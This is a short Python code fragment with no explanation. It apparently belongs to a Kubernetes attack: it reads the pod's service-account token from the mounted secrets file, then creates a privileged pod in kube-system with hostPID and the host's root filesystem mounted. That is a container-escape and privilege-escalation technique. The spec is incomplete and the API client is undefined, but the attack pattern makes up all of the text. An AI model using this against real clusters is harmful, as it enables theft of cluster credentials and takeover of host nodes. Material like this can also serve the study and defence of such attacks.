token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
pod = {"spec": {"hostPID": True, "containers": [{"securityContext": {"privileged": True}}], "volumes": [{"hostPath": {"path": "/"}}]}}
api.create_namespaced_pod("kube-system", pod)
